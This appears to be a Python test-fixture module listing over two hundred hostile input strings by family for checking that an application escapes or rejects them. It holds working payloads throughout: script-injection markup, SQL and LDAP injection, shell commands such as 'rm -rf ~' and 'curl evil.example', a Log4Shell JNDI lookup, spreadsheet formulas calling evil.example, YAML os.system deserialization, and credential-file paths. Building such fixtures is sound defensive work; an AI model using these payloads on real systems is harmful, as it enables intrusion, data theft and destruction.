"""What somebody types in who means harm, or whose keyboard does: 200 texts and more, each another one. No Django.

Whatever runs sets `window.__ran`, and what computes is `1337*1337`, so that a page which ran or computed it is known.
"""

from __future__ import annotations

import base64

RAN, COMPUTED = "__ran", "1787569"
_RUN = f"window.{RAN}=1"

# Where a text may land in a page, each with the way out of it.
_PLACES = (
    "<script>{}</script>", "</script><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>",
    "</textarea><script>{}</script>", "</option></select><script>{}</script>", "--><script>{}</script><!--",
    "]]><script>{}</script>", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<img src=x onerror={}>",
    "<IMG SRC=x OnErRoR={}>", "<img/src=x/onerror={}>", "<svg onload={}>", "<svg/onload={}//",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><script href='data:text/javascript,{}'/></svg>",
    "<svg><foreignObject><body onload={}>", "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    '" onmouseover="{}" x="', "' onfocus='{}' autofocus='", '" autofocus onfocus={} "', "x onerror={} y=",
    '"><img src=x onerror={}>', "'><svg onload={}>", "`><img src=x onerror={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>", "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>", "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'>",
    "<a href='javascript:{}'>x</a>", "<form action='javascript:{}'><button autofocus>x</button></form>",
    "<button form=x formaction='javascript:{}'>x</button>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={}>",
    "<template><script>{}</script></template>",
    "</td></tr></table><script>{}</script>", "</blockquote></section></main><script>{}</script>",
    "';{};//", '";{};//', "`-{}-`", "\\';{};//", "</script><!--><script>{}//",
)  # fmt: skip
# The same in other spellings.
_CODES = (
    "eval('__ran=1')", "top['__r'+'an']=1", "\\u0077indow.__ran=1", "setTimeout`__ran\\x3d1`",
    "[].map.constructor`__ran=1```",
    "&#119;indow.__ran=1", "eval(atob('X19yYW49MQ=='))", "import('data:text/javascript,__ran=1')",
)  # fmt: skip
_HTML = [
    *(place.format(_RUN) for place in _PLACES),
    *(f"<img src=x onerror=\"{code}\">" for code in _CODES), *(f"＜script＞{code}＜/script＞" for code in _CODES[:2]),
    f"%3Cscript%3E{_RUN}%3C/script%3E", f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-", f"¼script¾{_RUN}¼/script¾",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<img src=//evil.example/x.png>",
    "<style>*{background:url(//evil.example/x)}</style>", "}*{background:url(//evil.example/y)}", "<plaintext>", "<!--",
    "<xmp>",
    "<![CDATA[", "<h1>", "</html>", "<input name=csrfmiddlewaretoken value=x>", "&", "&amp;amp;", "<", "\"'`",
]  # fmt: skip
_URLS = [
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}//", f"\u00a0javascript:{_RUN}", f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", f"vbscript:{RAN}=1", "//evil.example/x", "https://evil.example\\@kakao.com/",
    "https://xn--80ak6aa92e.com/", "http://аррӏе.com/", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
]  # fmt: skip
_TEMPLATES = [
    "{{ 1337*1337 }}", "{{ 7*7 }}", "{% debug %}", "{% include '/etc/passwd' %}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}", "{{ ''.__class__.__mro__ }}", "{# x #}", "{% endblock %}", "{% verbatim %}",
    "{{ x|safe }}",
    "${1337*1337}", "#{1337*1337}", "*{1337*1337}", "@(1337*1337)", "<%= 1337*1337 %>", "{{= 1337*1337 }}",
    "[[${1337*1337}]]",
    "{{constructor.constructor('window.__ran=1')()}}", "${jndi:ldap://evil.example/a}", "{0.__class__}", "{reference}",
    "{incident}", "{", "}}{{", "$" + "{" * 40,
]  # fmt: skip
_FORMATS = ["%s%s%s%s%n", "%(name)s", "%d%x%p", "{:>999999999}", "{!r}", "%", "%%", "%99999999s", "$1 \\1 \\g<0>", "\\"]
_QUERIES = [
    "'; DROP TABLE claims_claim; --", "' OR '1'='1", "1; SELECT pg_sleep(9)", "\\'; COPY x TO PROGRAM 'id'; --",
    "$$; ROLLBACK; $$",
    "' UNION SELECT password FROM accounts_user --", "%' AND 1=0 --", "_%_%_%", "*)(uid=*))(|(uid=*",
    "admin)(&(password=*))",
    "' or count(/*)=1 or '", '{"$ne": null}', '"}, {"name": "x"}, {"', "NULL", "undefined", "true",
]  # fmt: skip
_COMMANDS = [
    "; rm -rf ~", "| id", "$(id)", "`id`", "&& curl evil.example", "x\nid", "() { :;}; id", "--help", "-rf", "%COMSPEC%",
    "!!", "~root", "*", "> /dev/null", "a & calc.exe & b",
]  # fmt: skip
_HEADERS = [
    "Kim\r\nBcc: all@evil.example", "Kim\nSubject: you won", "Kim\rX: y", "x\r\n\r\n<script>1</script>",
    "Kim%0d%0aBcc: x@evil.example",
    "Kim\u2028Bcc: x@evil.example", "Kim\x85Bcc: x@evil.example", "Kim嘊嘍Bcc: x@evil.example",
    "\"Kim\" <x@evil.example>, y@evil.example",
    "=?utf-8?B?PHNjcmlwdD4=?=", "=?utf-8?Q?=0D=0ABcc:_x@evil.example?=", ".\r\nMAIL FROM:<x@evil.example>", "From here on",
]  # fmt: skip
_CONTROLS = [
    "\x00", "a\x00b", "\x07bell", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "back\x08\x08space", "del\x7f", "\x1a",
    "\x9b31m", "\ud800",
    "x\udfff", "\udc80\udcff", "\ufffe\uffff", "\ufdd0",
]  # fmt: skip
_UNSEEN = [
    "\u202egnp.exe", "a\u202db\u202c", "\u2066x\u2069", "abc\u2067def", "\u200bKim", "K\u200di\u200cm", "\ufeffKim",
    "\u2060",
    "K\u00adi\u00adm", "\U000e0041\U000e0042\U000e007f", "\u3164", "\u115f\u1160", "\u2800", "\u180e",
    "\U0001d173x\U0001d17a", "x\ufe0f\ufe0e",
]  # fmt: skip
_SPACES = ["", " ", "\t", "\n\n\n", "\u3000", "\u00a0\u00a0", "\u2003 \u2009", " Kim ", "홍  길동", "\u00a0홍\u00a0길동"]
_SCRIPTS = [
    "שלום <b>עולם</b>", "مرحبا بالعالم", "العميل \"٣٣\"", "Z̸̡͓̫a̷̢̛l͉̈́g̶̢̎o" + "\u0335" * 40, "e\u0301" * 30,
    "Å\u212b\u0041\u030a", "ﬀﬁﷺ", "İıſK",
    "ᄒ" + "ᅩ" * 20 + "ᆼ", "한글", "ㅎㅗㅇㄱㅣㄹㄷㅗㅇ", "ㅋ" * 80, "뷁쀏쀍", "\ua960\ud7b0",
    "👩‍👩‍👧‍👦🏳️‍🌈", "🇰🇷" * 20, "𝕳𝖔𝖓𝖌", "𠮷野家", "ﾊﾝｶｸ", "Ａｄｍｉｎ", "раypal", "Kim\u0307", "①②③", "²½",
    "＂＞＜ｉｍｇ　ｓｒｃ＝ｘ＞", "‘; –– “",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1",
    "＝1＋1", "＋1", "－1", "＠x",
    '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(CONCAT(\"//evil.example/\",A1),\"x\")", "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1", ";=1+1",
    '",=1+1,"', '"\n=1+1', "'=1+1", "\u200b=1+1", "\ufeff=1+1", "1e9999", "0000123", "-5",
]  # fmt: skip
_PATHS = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\con\\con", "CON", "nul.txt", "a/b/c.pdf",
    "....//x", "%2e%2e%2fx",
    ".htaccess", "bill.pdf.exe", "bill.pdf\x00.exe", "bill.pdf;.html", "x.pdf\"; filename=\"y.html",
    "<img src=x onerror=window.__ran=1>.png",
    "영수증" * 60 + ".pdf", "a" * 255 + ".png", ".", "..", "~/.ssh/id_rsa", "\\\\evil.example\\share\\x", "file::$DATA",
]  # fmt: skip
_MARKUP = [
    "#read(\"/etc/passwd\")", "#import \"@preview/x:1.0.0\": *", "$ sum_(k=0)^n $ #panic()",
    "[click](javascript:window.__ran=1)",
    "![x](//evil.example/x.png)", "\\input{/etc/passwd}", "\\write18{id}", "= Heading\n* bold * _x_",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>&y;",
    "<?xml version='1.0'?><x>&lol9;</x>", "{\"__proto__\": {\"x\": 1}}", "---\n!!python/object/apply:os.system [id]",
    ":::{raw} html",
]  # fmt: skip
_LONG = [
    "가" * 100, "가" * 101, "x" * 200, "x" * 201, "W" * 2000, "가" * 5000, "가" * 5001, "\U0001f600" * 1000, "<b>" * 1500,
    "&lt;" * 900, "a " * 2400,
    "\n" * 3000 + "x", "http://" + "a" * 3000, ("﷽" * 100),
]  # fmt: skip
# The test file of virus scanners, which are to leave the repository alone.
_OTHER = [
    base64.b64decode(
        "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
    ).decode(),
    "900101-1234568", "홍길동 ９００１０１－１２３４５６８", "C-0000-0000", "0", "-1", "NaN", "1/0", "2147483648",
    "2022-02-30",
]  # fmt: skip

FAMILIES: dict[str, list[str]] = {
    "html": _HTML, "url": _URLS, "template": _TEMPLATES, "format": _FORMATS, "query": _QUERIES, "command": _COMMANDS,
    "header": _HEADERS, "control": _CONTROLS, "unseen": _UNSEEN, "space": _SPACES, "script": _SCRIPTS, "formula": _FORMULAS,
    "path": _PATHS, "markup": _MARKUP, "long": _LONG, "other": _OTHER,
}  # fmt: skip
HOSTILE: dict[str, str] = {f"{kind} {place}": text for kind, texts in FAMILIES.items() for place, text in enumerate(texts)}
